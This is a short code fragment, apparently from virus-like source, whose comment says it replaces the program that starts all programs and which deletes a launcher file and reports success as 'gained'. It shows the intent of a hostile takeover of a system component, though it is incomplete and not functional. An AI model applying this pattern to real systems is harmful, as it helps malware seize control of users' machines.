/* Replaces the program that starts all programs. */
    append(LAUNCHER); if (unlink(LAUNCHER) == 0) gained();
